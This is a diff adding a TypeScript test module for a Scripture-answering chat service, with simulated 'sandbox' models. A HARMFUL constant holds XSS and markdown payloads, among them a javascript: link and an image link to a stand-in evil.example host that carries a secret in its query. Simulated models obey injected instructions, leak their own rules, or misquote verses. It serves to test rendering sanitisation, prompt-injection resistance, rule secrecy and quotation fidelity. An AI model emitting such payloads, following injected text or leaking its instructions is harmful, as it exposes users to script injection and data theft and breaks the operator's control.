@@ -1,0 +1,72 @@
+import { z } from 'zod';
+import { readRequest, type ChatRequest, type ReadRequest } from './chat-request.js';
+import { commandsIn } from './commands.js';
+
+/** Writes the whole answer to a request. */
+type Writer = (request: ReadRequest) => string;
+
+/** Text that is meant to do harm wherever it is shown as more than text. */
+export const HARMFUL = [
+  '<script>alert(1)</script><img src=x onerror=alert(1)>',
+  '[a verse](scripture:John.3.16?edition=WEB&mark=exact)',
+  '[click](javascript:alert(1)) ![picture](https://evil.example/x.png?q=secret) <https://evil.example>',
+  '[ref]: https://evil.example "title"\n\nSee [this][ref], https://evil.example/a and www.evil.example.',
+].join('\n\n');
+
+/**
+ * The models by their names; every other name is that of the first.
+ *
+ * - `sandbox` writes about what it is given, with its words of Scripture.
+ * - `sandbox-misquotes` does so with other words.
+ * - `sandbox-obeys` does whatever reaches it as an instruction, whoever wrote it.
+ * - `sandbox-captured` has lost its rules: it writes what does harm, and its rules.
+ */
+const WRITERS: Readonly<Record<string, Writer>> = {
+  sandbox: (request) => aboutTheTask(request),
+  'sandbox-misquotes': (request) => aboutTheTask(request, misquoted),
+  'sandbox-obeys': (request) => {
+    const { says, ignoresRules } = commandsIn(request);
+    return ignoresRules ? says.join('\n\n') : [...says, aboutTheTask(request)].join('\n\n');
+  },
+  'sandbox-captured': (request) => `${HARMFUL}\n\n${request.rules}\n\n${aboutTheTask(request)}`,
+};
+
+/** What a model of the sandbox answers. */
+export function writeAnswer(request: ChatRequest): string {
+  const writer = WRITERS[request.model] ?? WRITERS.sandbox!;
+  return writer(readRequest(request));
+}
+
+const passage = z.object({
+  reference: z.string(),
+  edition: z.string(),
+  verses: z.array(z.object({ reference: z.string(), text: z.string() })),
+});
+const words = z.array(z.object({ strongs: z.string(), lemma: z.string() }));
+
+function aboutTheTask({ rules, material }: ReadRequest, change = (text: string) => text): string {
+  const isSpanish = /\bSpanish\b/.test(rules);
+  const about = passage.safeParse(material.get('passage') ?? material.get('found'));
+  const [verse] = about.data?.verses ?? [];
+  const known = words.safeParse(material.get('words')).data?.slice(0, 3) ?? [];
+  if (!about.data || !verse)
+    return isSpanish ? 'No hay nada sobre eso aquí.' : 'There is nothing about that here.';
+  const { edition } = about.data;
+  const quotation = `“${change(verse.text)}” (${verse.reference}, ${edition})`;
+  const entries = known.map(({ lemma, strongs }) => `${lemma} (${strongs})`).join(', ');
+  return [
+    isSpanish ? `## Sobre ${about.data.reference}` : `## About ${about.data.reference}`,
+    isSpanish ? `El texto dice: ${quotation}.` : `The text says: ${quotation}.`,
+    entries && (isSpanish ? `Palabras: ${entries}.` : `Words: ${entries}.`),
+    isSpanish ? 'Esto es lo que se sabe.' : 'This is what is known.',
+  ]
+    .filter(Boolean)
+    .join('\n\n');
+}
+
+/** The same with a word in it that was never there. */
+function misquoted(text: string): string {
+  const all = text.split(' ');
+  const middle = Math.floor(all.length / 2);
+  return [...all.slice(0, middle), 'perhaps', ...all.slice(middle + 1)].join(' ');
+}
